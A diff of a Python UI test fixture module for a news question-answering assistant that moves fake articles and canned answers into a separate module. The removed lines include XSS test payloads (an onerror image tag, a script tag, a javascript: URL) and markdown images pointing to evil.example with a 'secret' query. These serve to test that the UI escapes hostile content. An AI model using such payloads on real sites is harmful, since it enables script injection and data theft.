@@ -8,15 +8,27 @@ from collections.abc import Iterator, Mapping, Sequence
 from dataclasses import dataclass, field, replace
 from pathlib import Path
 
+from ui_answers import (
+    ARTICLES,
+    HOSTILE,
+    agency_answer,
+    german_answer,
+    hostile_answer,
+    merz_answer,
+    missing_answer,
+    moon_answer,
+    nothing_answer,
+    quotes_answer,
+    tariff_answer,
+    unproven_answer,
+)
+
 from assistant.answer import (
     Answer,
     Answered,
-    Citation,
     DateFilter,
     Event,
     Found,
-    Searched,
-    Sentence,
     Turn,
     Written,
 )
@@ -24,10 +36,8 @@ from assistant.settings import Settings
 from vectorstore.article import Article, Passage
 from vectorstore.errors import ArticleNotFound, BelegError, FetchError
 from vectorstore.filters import Filters
-from vectorstore.index_report import Stop, never
+from vectorstore.index_report import Failure, IndexReport, Progress, Stop, never
 from vectorstore.web import WatchedFeed
-
-HOSTILE = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=1</script>'
 
 
 @dataclass(frozen=True)
@@ -38,241 +48,6 @@ class FakeStatus:
     embedding_ready: bool = True
     embedding: str = "fake-e5"
     llm: str = "fake-llm"
-
-
-@dataclass(frozen=True)
-class FakeProgress:
-    done: int
-    total: int
-    name: str
-
-
-@dataclass(frozen=True)
-class FakeFailure:
-    path: str
-    reason: str
-
-
-@dataclass(frozen=True)
-class FakeReport:
-    added: tuple[str, ...] = ()
-    updated: tuple[str, ...] = ()
-    unchanged: tuple[str, ...] = ()
-    removed: tuple[str, ...] = ()
-    failed: tuple[FakeFailure, ...] = ()
-    cancelled: bool = False
-
-
-_FILLER = "\n\n".join(
-    f"Absatz {number}. Die Gespräche dauerten bis in den Abend, und viele Fragen blieben offen. "
-    "Beobachter sprachen von einem ersten Schritt, dem weitere folgen müssten."
-    for number in range(1, 13)
-)
-
-MERZ = Article(
-    id="merz",
-    title="Merz nennt Bedingungen für einen Frieden",
-    text=(
-        "Berlin 🕊️ – Vor dem Gipfel in Alaska hat sich der Bundeskanzler geäußert.\n\n"
-        f"{_FILLER}\n\n"
-        "Die Ukraine müsse bei weiteren Treffen mit am Tisch sitzen, forderte Merz. "
-        "Zunächst müsse es einen Waffenstillstand geben.\n\n"
-        "Er nannte außerdem am Mittwoch robuste Sicherheitsgarantien als Teil jeder Einigung.\n\n"
-        f"{_FILLER}"
-    ),
-    language="de",
-    origin="/articles/merz.txt",
-    date=datetime.date(2025, 8, 13),
-    source="Tagesblatt",
-    author="Anna Beispiel",
-    url="https://tagesblatt.example/merz",
-)
-
-TARIFF = Article(
-    id="tariff",
-    title="US doubles tariff on Indian goods over Russian oil",
-    text=(
-        "Washington has imposed an additional tariff of 25 percent on goods from India.\n\n"
-        "The order names purchases of Russian oil as the reason. "
-        "New Delhi called the step unfair, unjustified and unreasonable.\n\n"
-        "Together with an earlier tariff, the duty reaches 50 percent."
-    ),
-    language="en",
-    origin="/articles/tariff.txt",
-    date=datetime.date(2025, 8, 6),
-    source="The Ledger",
-)
-
-EVIL = Article(
-    id="evil",
-    title=f"Böse {HOSTILE}",
-    text=f"Vorsicht. {HOSTILE} ![x](http://evil.example/x.png) Ende.",
-    language="de",
-    origin="upload:evil.txt",
-    date=datetime.date(2025, 1, 1),
-    source=HOSTILE,
-    url="javascript:window.__pwned=1",
-)
-
-ARTICLES = (MERZ, TARIFF, EVIL)
-
-
-def cite(number: int, article: Article, quote: str) -> Citation:
-    """Return a citation whose offsets are right to the code point."""
-    start = article.text.index(quote)
-    return Citation(number, article, quote, start, start + len(quote))
-
-
-QUOTES = (
-    cite(1, MERZ, "Die Ukraine müsse bei weiteren Treffen mit am Tisch sitzen, forderte Merz."),
-    cite(2, MERZ, "Zunächst müsse es einen Waffenstillstand geben."),
-    cite(
-        3,
-        MERZ,
-        "Er nannte außerdem am Mittwoch robuste Sicherheitsgarantien als Teil jeder Einigung.",
-    ),
-)
-
-TARIFF_QUOTES = (
-    cite(
-        1, TARIFF, "Washington has imposed an additional tariff of 25 percent on goods from India."
-    ),
-    cite(2, TARIFF, "The order names purchases of Russian oil as the reason."),
-    cite(3, TARIFF, "New Delhi called the step unfair, unjustified and unreasonable."),
-    cite(4, TARIFF, "Together with an earlier tariff, the duty reaches 50 percent."),
-    cite(5, MERZ, "Zunächst müsse es einen Waffenstillstand geben."),
-    cite(
-        6,
-        MERZ,
-        "Er nannte außerdem am Mittwoch robuste Sicherheitsgarantien als Teil jeder Einigung.",
-    ),
-)
-
-
-def answer_of(
-    question: str, said: Sequence[tuple[str, tuple[int, ...], str | None]], **values: object
-) -> Answer:
-    """Return an answer made of (sentence, quote numbers, reason against it)."""
-    words, sentences = "", []
-    for sentence, numbers, reason in said:
-        words += " " if words else ""
-        start = len(words)
-        words += sentence
-        proof = ("unsupported", reason, "no_match") if reason else ("supported",)
-        sentences.append(Sentence(sentence, start, len(words), numbers, *proof))
-    filled = {"language": "en", "kind": "written", "citations": QUOTES} | values
-    return Answer(question, question, text=words, sentences=tuple(sentences), **filled)
-
-
-def merz_answer(question: str) -> Answer:
-    return answer_of(
-        question,
-        (
-            ("Merz demanded that Ukraine sit at the table at further meetings.", (1,), None),
-            ("There must first be a ceasefire, and robust security guarantees.", (2, 3), None),
-            ("He also wants to keep his influence in the region.", (), "No quote says this."),
-        ),
-    )
-
-
-def german_answer(question: str) -> Answer:
-    """Return a German answer with an English quote and two kinds of doubt."""
-    return answer_of(
-        question,
-        (
-            ("Die Ukraine muss laut Merz mit am Tisch sitzen.", (1,), None),
-            (
-                "Zugleich erhebt Washington einen Zoll von 30 Prozent auf Waren aus Indien.",
-                (),
-                "Das Zitat, das am nächsten kommt, nennt keine 30 Prozent.",
-            ),
-            ("Der Grund sind Indiens Käufe von russischem Öl.", (2,), None),
-            ("Merz reist dazu nach Alaska.", (), "Kein Zitat in den Artikeln sagt das."),
-        ),
-        language="de",
-        citations=(QUOTES[0], replace(TARIFF_QUOTES[1], number=2)),
-    )
-
-
-def unproven_answer(question: str) -> Answer:
-    """Return the quotes that are left where nothing of a written answer held."""
-    notice = "Nothing of the answer that was written is proven by the articles."
-    return replace(quotes_answer(question), language="en", notice=notice)
-
-
-def tariff_answer(question: str) -> Answer:
-    return answer_of(
-        question,
-        (
-            ("The US imposed an additional tariff of 25 percent on Indian goods.", (1,), None),
-            ("The reason is India's purchases of Russian oil.", (2,), None),
-            ("India called the step unfair, and the duty now reaches 50 percent.", (3, 4), None),
-        ),
-        citations=TARIFF_QUOTES,
-        notice="The passages were shortened for the model.",
-    )
-
-
-def hostile_answer(question: str) -> Answer:
-    image = "![x](http://evil.example/steal.png?q=secret)"
-    return answer_of(
-        question,
-        (
-            (f"Look {HOSTILE} {image} [here](http://evil.example/).", (1,), None),
-            ("<b>Bold</b> and more.", (), HOSTILE),
-        ),
-        citations=(cite(1, EVIL, HOSTILE),),
-        notice=HOSTILE,
-    )
-
-
-def quotes_answer(question: str) -> Answer:
-    return Answer(
-        question,
-        question,
-        "de",
-        "quotes",
-        " ".join(quote.quote for quote in QUOTES),
-        citations=QUOTES,
-        notice="Das Sprachmodell ist aus; hier sind die besten Zitate.",
-    )
-
-
-def missing_answer(question: str) -> Answer:
-    passage = Passage(TARIFF, TARIFF.text[:150], 0, 150, 0.71)
-    return Answer(
-        question,
-        question,
-        "en",
-        "not_found",
-        "The articles do not say anything about this.",
-        passages=(passage, Passage(MERZ, MERZ.text[:400], 0, 400, 0.6)),
-    )
-
-
-def moon_answer(question: str) -> Answer:
-    """Return what comes nearest, and what was searched."""
-    days = datetime.date(2014, 3, 3), datetime.date(2025, 5, 12)
-    return replace(
-        missing_answer(question),
-        searched=Searched(214, *days),
-        nearest=(replace(TARIFF_QUOTES[2], number=0), replace(QUOTES[1], number=0)),
-    )
-
-
-COPY = replace(MERZ, id="copy", title="Kanzler stellt Bedingungen", source="Abendpost", text="")
-MERZ_PASSAGE = Passage(
-    MERZ, MERZ.text[QUOTES[0].start : QUOTES[2].end], QUOTES[0].start, QUOTES[2].end, 0.9, (COPY,)
-)
-
-
-def agency_answer(question: str) -> Answer:
-    return replace(merz_answer(question), passages=(MERZ_PASSAGE,))
-
-
-def nothing_answer(question: str) -> Answer:
-    notice = "No article fits the filters that are set. Remove one."
-    return replace(missing_answer(question), passages=(), notice=notice)
 
 
 DATES = {
@@ -405,30 +180,30 @@ class FakeAssistant:
         found = [a for a in ARTICLES if filters is None or filters.accepts(a)]
         return [Passage(a, a.text[:80], 0, 80, 0.9 - n / 10) for n, a in enumerate(found)][:k]
 
-    def index(self, paths, progress=None, cancelled=None, *, forget=False) -> FakeReport:
+    def index(self, paths, progress=None, cancelled=None, *, forget=False) -> IndexReport:
         self.indexed.append(list(paths))
         if progress:
-            progress(FakeProgress(1, 1, "merz.txt"))
+            progress(Progress(1, 1, "merz.txt"))
         while not self.indexing.wait(0.05):
             if cancelled and cancelled():
-                return FakeReport(cancelled=True)
-        return FakeReport(unchanged=tuple(self.stored))
+                return IndexReport(cancelled=True)
+        return IndexReport(unchanged=tuple(self.stored))
 
     def index_uploads(
         self, files: Mapping[str, bytes], progress=None, cancelled=None
-    ) -> FakeReport:
+    ) -> IndexReport:
         added, failed = [], []
         for done, (name, content) in enumerate(files.items(), start=1):
             if not content.strip():
-                failed.append(FakeFailure(f"upload:{name}", "The file is empty."))
+                failed.append(Failure(f"upload:{name}", "The file is empty."))
             else:
                 self.stored[name] = Article(
                     name, Path(name).stem, content.decode(), "en", f"upload:{name}"
                 )
                 added.append(name)
             if progress:
-                progress(FakeProgress(done, len(files), name))
-        return FakeReport(added=tuple(added), failed=tuple(failed))
+                progress(Progress(done, len(files), name))
+        return IndexReport(added=tuple(added), failed=tuple(failed))
 
     def watch_feeds(self, urls: Sequence[str], every: datetime.timedelta | None) -> None:
         for url in urls:
